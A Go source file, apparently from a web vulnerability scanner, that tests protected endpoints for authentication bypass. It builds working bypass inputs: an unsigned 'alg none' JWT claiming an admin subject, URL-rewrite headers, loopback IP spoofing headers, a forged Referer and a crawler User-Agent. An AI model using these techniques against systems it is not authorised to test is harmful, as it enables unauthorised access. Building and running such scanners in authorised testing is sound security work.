// Package brokenauth detects authentication bypass on protected endpoints:
// resources served without credentials, with forged credentials, or
// through header tricks that fool a fronting proxy.
package brokenauth

import (
	"context"
	"encoding/base64"
	"fmt"
	"log/slog"
	"maps"
	"net/http"
	"slices"
	"strings"

	"github.com/waftester/webscan/pkg/defaults"
	"github.com/waftester/webscan/pkg/finding"
	"github.com/waftester/webscan/pkg/httpclient"
	"github.com/waftester/webscan/pkg/probe"
	"github.com/waftester/webscan/pkg/target"
)

// Endpoint is a resource expected to require authentication.
type Endpoint struct {
	Path   string `json:"path" yaml:"path"`
	Method string `json:"method,omitempty" yaml:"method,omitempty"`

	// LoginPath is used as the Referer for the referer technique.
	LoginPath string `json:"login_path,omitempty" yaml:"login_path,omitempty"`
}

// Technique is one way of reaching the endpoint without valid credentials.
type Technique struct {
	Name        string
	Description string

	// Rewrite sends the request to the site root and names the endpoint
	// in the header instead; a fronting proxy authorizes "/" while the
	// backend routes by the header.
	Rewrite bool

	header func(ep Endpoint, tg target.Target) http.Header
}

func static(k, v string) func(Endpoint, target.Target) http.Header {
	return func(Endpoint, target.Target) http.Header { return http.Header{k: {v}} }
}

func rewrite(k string) func(Endpoint, target.Target) http.Header {
	return func(ep Endpoint, tg target.Target) http.Header {
		return http.Header{k: {tg.Resolve(ep.Path).Path}}
	}
}

// Techniques returns every bypass technique in the order they are tried.
func Techniques() []Technique {
	return []Technique{
		{Name: "invalid-bearer", Description: "invalid bearer token accepted",
			header: static("Authorization", "Bearer invalid.token.value")},
		{Name: "jwt-alg-none", Description: "unsigned JWT (alg none) accepted",
			header: static("Authorization", "Bearer "+NoneJWT())},
		{Name: "x-original-url", Description: "X-Original-URL rewrite", Rewrite: true,
			header: rewrite("X-Original-URL")},
		{Name: "x-rewrite-url", Description: "X-Rewrite-URL rewrite", Rewrite: true,
			header: rewrite("X-Rewrite-URL")},
		{Name: "x-forwarded-for", Description: "X-Forwarded-For loopback",
			header: static("X-Forwarded-For", "127.0.0.1")},
		{Name: "x-real-ip", Description: "X-Real-IP loopback",
			header: static("X-Real-IP", "127.0.0.1")},
		{Name: "x-custom-ip-authorization", Description: "X-Custom-IP-Authorization loopback",
			header: static("X-Custom-IP-Authorization", "127.0.0.1")},
		{Name: "referer", Description: "Referer set to the login page",
			header: func(ep Endpoint, tg target.Target) http.Header {
				login := ep.LoginPath
				if login == "" {
					login = "/login"
				}
				return http.Header{"Referer": {tg.Resolve(login).String()}}
			}},
		{Name: "crawler-user-agent", Description: "search crawler User-Agent",
			header: static("User-Agent", defaults.UAGoogleBot)},
	}
}

// NoneJWT returns an unsigned token claiming an admin subject.
func NoneJWT() string {
	enc := base64.RawURLEncoding
	header := enc.EncodeToString([]byte(`{"alg":"none","typ":"JWT"}`))
	claims := enc.EncodeToString([]byte(`{"sub":"admin","role":"admin","admin":true}`))
	return header + "." + claims + "."
}

// Tester checks endpoints for authentication bypass.
type Tester struct {
	client     httpclient.Sender
	techniques []Technique
	logger     *slog.Logger
}

// Option configures a Tester.
type Option func(*Tester)

// WithTechniques restricts the techniques tried, by name.
func WithTechniques(names ...string) Option {
	return func(t *Tester) {
		var keep []Technique
		for _, tech := range Techniques() {
			for _, n := range names {
				if strings.EqualFold(tech.Name, n) {
					keep = append(keep, tech)
				}
			}
		}
		t.techniques = keep
	}
}

// WithLogger sets the logger.
func WithLogger(l *slog.Logger) Option {
	return func(t *Tester) {
		if l != nil {
			t.logger = l
		}
	}
}

// New creates a Tester.
func New(client httpclient.Sender, opts ...Option) *Tester {
	t := &Tester{client: client, techniques: Techniques(), logger: slog.Default()}
	for _, opt := range opts {
		opt(t)
	}
	return t
}

// Probe first requests the endpoint anonymously. An endpoint that serves
// content straight away is reported as likely (it may be public by
// intent). An endpoint that denies the anonymous request is retried with
// every technique, and a technique that yields content is confirmed.
func (t *Tester) Probe(ctx context.Context, tg target.Target, ep Endpoint) ([]finding.Finding, error) {
	if ep.Path == "" {
		return nil, fmt.Errorf("%w: empty path", probe.ErrInvalidPoint)
	}
	endpoint := tg.Resolve(ep.Path)

	base, err := t.client.Send(ctx, probe.Identity{}.Request(ep.Method, endpoint.String(), "brokenauth/anonymous"))
	if err != nil {
		return nil, probe.Gap("brokenauth", err)
	}
	if probe.Accessible(base) {
		f := t.newFinding(tg, ep, "unauthenticated", finding.Likely, base,
			"endpoint served content to an anonymous request")
		return []finding.Finding{f}, nil
	}
	if !probe.Denied(base) {
		// 404, 5xx and friends: nothing protected to bypass.
		return nil, nil
	}

	var root *httpclient.Response
	var succeeded []string
	var first *httpclient.Response
	for _, tech := range t.techniques {
		req := probe.Identity{}.Request(ep.Method, endpoint.String(), "brokenauth/"+tech.Name)
		if tech.Rewrite {
			req.URL = tg.Resolve("/").String()
		}
		for k, vs := range tech.header(ep, tg) {
			req.Header[k] = vs
		}
		resp, err := t.client.Send(ctx, req)
		if err != nil {
			return nil, probe.Gap("brokenauth", err)
		}
		if !probe.Accessible(resp) {
			continue
		}
		if tech.Rewrite {
			// The root page itself is usually public; only a response that
			// differs from it shows the backend routed by the header.
			if root == nil {
				root, err = t.client.Send(ctx, probe.Identity{}.Request("", tg.Resolve("/").String(), "brokenauth/root"))
				if err != nil {
					return nil, probe.Gap("brokenauth", err)
				}
			}
			if probe.Similar(resp.Body, root.Body) && resp.StatusCode == root.StatusCode {
				continue
			}
		}
		succeeded = append(succeeded, tech.Name)
		if first == nil {
			first = resp
		}
	}
	if len(succeeded) == 0 {
		return nil, nil
	}
	t.logger.Debug("auth bypass",
		slog.String("path", endpoint.Path),
		slog.Any("techniques", succeeded))
	f := t.newFinding(tg, ep, succeeded[0], finding.Confirmed, first,
		fmt.Sprintf("anonymous request denied with %d; bypassed by %s", base.StatusCode, strings.Join(succeeded, ", ")),
		succeeded...)
	return []finding.Finding{f}, nil
}

func (t *Tester) newFinding(tg target.Target, ep Endpoint, technique string, conf finding.Confidence, resp *httpclient.Response, detail string, tags ...string) finding.Finding {
	u := tg.Resolve(ep.Path)
	return finding.New(finding.Finding{
		Category:    finding.AuthBypass,
		Confidence:  conf,
		Technique:   technique,
		URL:         u.String(),
		Path:        u.Path,
		StatusCode:  resp.StatusCode,
		Description: fmt.Sprintf("authentication bypass on %s (%s)", u.Path, technique),
		Evidence: finding.Evidence{
			Request:  resp.Request.String() + formatHeaders(resp.Request.Header),
			Response: resp.Summary(defaults.EvidenceExcerpt),
			Detail:   detail,
		},
		Tags: tags,
	})
}

func formatHeaders(h http.Header) string {
	if len(h) == 0 {
		return ""
	}
	var b strings.Builder
	for _, k := range slices.Sorted(maps.Keys(h)) {
		for _, v := range h[k] {
			fmt.Fprintf(&b, "\n%s: %s", k, v)
		}
	}
	return b.String()
}
